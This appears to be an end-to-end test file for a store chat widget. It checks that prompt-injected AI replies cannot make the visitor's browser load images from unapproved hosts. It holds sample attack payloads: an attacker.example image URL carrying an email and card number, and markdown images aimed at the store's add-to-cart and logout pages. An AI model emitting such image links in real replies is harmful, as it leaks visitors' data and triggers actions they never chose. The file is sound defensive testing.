import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { replyJson, startFixtureServer, widgetPage, type FixtureServer } from '../fixture-server';
import { startSession, type E2eSession } from '../harness';
import { PATIENCE_MS } from '../../support/patience';

/**
 * One image rule for every reply, in Chromium against the built bundle: markdown images and product-card
 * images load only from the page's own image files, the common commerce CDNs and `image-hosts`. A
 * prompt-injected reply cannot make the visitor's browser fetch another server's URL with the
 * conversation in it, nor make a credentialed GET to one of the store's own pages.
 */
let session: E2eSession;
let fixtures: FixtureServer;
const storeHits: string[] = [];
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==',
  'base64',
);
const LEAK = 'https://attacker.example/x.png?d=jane%40mail.example%204111111111111111';

const FENCED = [
  'Here you go:',
  '',
  '```json',
  JSON.stringify({ products: [{ title: 'Injected', image: LEAK, url: 'https://shop.example/p' }] }),
  '```',
].join('\n');
const REPLIES: Record<string, unknown> = {
  fenced: { output: FENCED },
  cards: {
    reply: 'Cards',
    products: [
      { title: 'Remote', image: `${LEAK}&n=2` },
      { title: 'Local', image: '/img/ok.png' },
    ],
  },
  pixels: {
    output:
      'Pixels: ![cart](/cart/add?id=123&quantity=10) ![logout](/account/logout) ![fine](/img/ok.png) ![media](/media/banner)',
  },
};

beforeAll(async () => {
  [session, fixtures] = await Promise.all([startSession(), startFixtureServer()]);
  fixtures.handle('/img-hook', (_request, response, body) => {
    const { message } = JSON.parse(body) as { message: string };
    replyJson(response, REPLIES[message] ?? { output: 'ok' });
  });
  for (const path of ['/cart/add', '/account/logout', '/img/ok.png', '/media/banner']) {
    fixtures.handle(path, (request, response) => {
      storeHits.push(String(request.url));
      response.writeHead(200, { 'Content-Type': 'image/png' }).end(PNG);
    });
  }
});

afterAll(async () => {
  await session?.close();
  await fixtures?.close();
});

async function openWidget(attributes = '') {
  const opened = await session.newPage();
  const leaked: string[] = [];
  await opened.context.route('https://attacker.example/**', (route) => {
    leaked.push(route.request().url());
    return route.abort();
  });
  await opened.page.goto(
    fixtures.page(
      `/images-${Math.random().toString(36).slice(2)}`,
      widgetPage(`webhook-url="/img-hook" typing-speed="0" persist="none" ${attributes}`),
    ),
  );
  await opened.page.getByRole('button', { name: 'Ask a question' }).waitFor();
  const send = async (text: string) => {
    const before = await opened.page.locator('store-assistant .message.bot').count();
    await opened.page.evaluate(
      (message) =>
        (document.querySelector('store-assistant') as HTMLElement & { sendMessage(text: string): boolean }).sendMessage(
          message,
        ),
      text,
    );
    await opened.page.locator('store-assistant .message.bot').nth(before).waitFor();
  };
  return { ...opened, leaked, send };
}

describe('images in replies', () => {
  it('a fenced products block and a structured reply with remote images make no request; the cards show their placeholder', async () => {
    const { page, leaked, send, consoleMessages } = await openWidget();
    await send('fenced');
    await send('cards');
    await page.locator('store-assistant .product-card', { hasText: 'Local' }).locator('img').waitFor();
    await expect
      .poll(() =>
        page
          .locator('store-assistant .product-card img')
          .evaluateAll((images) => images.every((image) => (image as HTMLImageElement).complete)),
      )
      .toBe(true);
    expect(leaked).toEqual([]);
    expect(
      await page
        .locator('store-assistant .product-card', { hasText: 'Injected' })
        .locator('.product-image-placeholder')
        .count(),
    ).toBe(1);
    expect(
      await page
        .locator('store-assistant .product-card', { hasText: 'Remote' })
        .locator('.product-image-placeholder')
        .count(),
    ).toBe(1);
    // The store owner learns which host to add, once, however many images it refused.
    expect(consoleMessages.filter((message) => message.includes('attacker.example'))).toHaveLength(1);
    expect(consoleMessages.find((message) => message.includes('attacker.example'))).toMatch(/image-hosts/);
  });

  it('same-origin markdown images load only from image files or a configured prefix: no credentialed GET to store pages', async () => {
    storeHits.length = 0;
    const { page, send } = await openWidget(`image-hosts="127.0.0.1:${new URL(fixtures.url).port}/media/"`);
    await send('pixels');
    await page.locator('store-assistant .message.bot img[alt="fine"]').waitFor();
    await page.locator('store-assistant .message.bot img[alt="media"]').waitFor();
    // The images are requested once drawn; their requests reach the server a little later.
    await expect.poll(() => [...storeHits].sort(), { timeout: PATIENCE_MS }).toEqual(['/img/ok.png', '/media/banner']);
    expect(await page.locator('store-assistant .message.bot').getByText('cart').count()).toBe(1);
  });
});
